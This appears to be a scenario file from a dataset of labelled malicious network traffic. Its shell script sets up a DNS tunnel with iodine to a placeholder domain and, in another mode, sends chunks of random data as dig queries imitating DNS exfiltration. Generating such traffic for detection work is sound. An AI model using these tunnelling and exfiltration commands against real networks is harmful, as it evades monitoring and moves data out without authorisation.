# label: malicious
# class: tunnel
# twin: dns_long
# tools: iodine curl dnsmasq-base
# about: IP packets, or a stolen file, travel in DNS questions and answers by way of the ordinary resolver.
# command: iodine through the resolver with curl inside, or dig with the file's pieces as names
# params: fetch net=lan KIND=iodine OPTS="-T TXT -m 600" FILE=large limit=30
# params: idle net=wan KIND=iodine OPTS="-T CNAME -I 1" FILE=small limit=30
# params: pieces net=lan KIND=dig PIECE=45 HIGH=0.12
if [ "$KIND" = iodine ]; then
	iodine -f -r -P tunnelled $OPTS 10.20.30.53 t.test &
	for _ in {1..80}; do
		ping -q -c 1 -W 1 10.99.0.1 >/dev/null 2>&1 && break
		sleep 0.2
	done
	curl -s --max-time 8 "http://10.99.0.1:8000/$FILE" -o got
	pause 1 2
	kill %1
else
	# The file's name is in every piece's; the pieces count up.
	n=0
	head -c 3000 /dev/urandom | od -An -v -tx1 | tr -d ' \n' | fold -w "$PIECE" | while read -r piece; do
		dig @infra +tries=2 +time=1 "$((n += 1)).$piece.x7.cdn.test" "$(pick A TXT)"
		pause 0 "$HIGH"
	done
fi
true
